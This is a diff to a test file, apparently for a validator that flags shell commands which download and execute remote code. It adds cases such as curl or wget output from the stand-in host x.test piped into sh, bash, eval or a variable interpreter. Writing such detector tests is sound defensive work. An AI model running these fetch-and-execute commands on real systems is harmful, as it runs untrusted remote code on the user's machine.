@@ -189,6 +189,10 @@ describe("downloadExecution", () => {
     "bash <(curl -s https://x.test/i)",
     'sh -c "$(curl -fsSL https://x.test/i)"',
     "bash -c 'curl -s https://x.test/i | sh'",
+    // A script run in turn that downloads sends a download's output on.
+    "bash -c 'curl -s https://x.test/i' | sh",
+    "eval curl -s https://x.test/i | sh",
+    "echo $(sh -c 'wget -qO- https://x.test/i') | bash",
     // A program named by an expansion could be any interpreter.
     "curl -s https://x.test/i | $SHELL",
     'wget -qO- https://x.test/i | "$RUN" -s',
